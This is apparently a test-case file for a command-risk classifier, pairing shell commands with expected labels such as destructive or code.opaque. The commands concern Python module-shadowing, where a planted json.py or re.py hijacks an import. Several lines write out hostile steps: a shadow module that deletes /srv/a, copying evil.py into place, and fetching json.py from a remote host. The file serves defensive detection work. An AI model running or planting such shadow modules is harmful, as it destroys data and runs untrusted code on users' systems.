# What a text puts somewhere, and a tool then takes for its own: modules, settings, repositories.

printf 'import os; os.remove("/srv/a")' > /tmp/x/json.py; cd /tmp/x && python3 -c 'import json'  #=> destructive
printf 'print(1)' > /tmp/x/json.py; cd /tmp/x && python3 -c 'import json'  #=> reversible_low -- what it holds is harmless
printf 'import os; os.remove("/srv/a")' > /tmp/x/re.py; cd /tmp/x && python3 -m json.tool f  #=> destructive -- json imports re
printf 'import os; os.remove("/srv/a")' > /tmp/x/json.py; cd /tmp/x && python3 <<< 'import json'  #=> destructive
printf 'import mine' > /tmp/decimal.py; echo 'import statistics' > /tmp/y.py; python3 /tmp/y.py  #=> unknown -- the folder of the script
mkdir -p /tmp/x/json; echo 'import mine' > /tmp/x/json/__init__.py; cd /tmp/x; python3 -c 'import json'  #=> unknown
cd /tmp/x; cp /opt/evil.py json.py; python3 -c 'import json'  #=> unknown code.opaque
cd /tmp/x; cp /opt/json.py .; python3 -c 'import json'  #=> unknown code.opaque
cd /tmp/x; cp -r /opt/requests .; python3 -c 'import requests'  #=> unknown code.opaque
ln -s /opt/evil.py json.py; python3 -c 'import json'  #=> unknown code.opaque
scp h:json.py . && python3 -c 'import json'  #=> unknown code.opaque
cd /tmp/x; curl -so json.py https://example.com/j; python3 -c 'import json'  #=> unknown code.remote
wget https://example.com/json.py; python3 -c 'import json'  #=> unknown code.opaque
tar xf a.tgz -C /tmp/x; cd /tmp/x; python3 -c 'import json'  #=> unknown code.opaque
unzip -q a.zip -d /tmp/x; cd /tmp/x; python3 -m json.tool f  #=> unknown code.opaque
git clone https://example.com/y.git && cd y && python3 -c 'import json'  #=> unknown code.opaque
cp -r src /tmp/build && cd /tmp/build && python3 -m json.tool a.json  #=> unknown code.opaque
mv evil out && cd out && python3 -c 'import json'  #=> unknown code.opaque

python3 -c 'import json'  #=> read_only -- what a project holds is trusted
echo 'import mine' > /tmp/x/json.py; cd /tmp/x; python3 -I -c 'import json'  #=> reversible_low
echo 'import mine' > /tmp/x/json.py; cd /tmp/x; python3 -Pc 'import json'  #=> reversible_low
echo 'import mine' > /tmp/x/json.py; python3 -c 'import json'  #=> reversible_low -- another folder
echo '{}' > /tmp/x/json.txt; cd /tmp/x; python3 -c 'import json'  #=> reversible_low
echo 'import mine' > /tmp/app.py; cd /tmp; python3 -c 'import ast; ast.parse(open("app.py").read())'  #=> reversible_low
mkdir -p /tmp/x && cd /tmp/x && python3 -c 'import json'  #=> reversible_low
mkdir -p out && cp a.json out/ && cd out && python3 -m json.tool a.json  #=> config_mutation
curl -sO https://example.com/data.json; python3 -m json.tool data.json  #=> config_mutation
tar tf a.tgz; python3 -c 'import json'  #=> read_only
git pull; python3 -c 'import json'  #=> config_mutation
git clone https://example.com/y.git && python3 -c 'import json'  #=> reversible_low
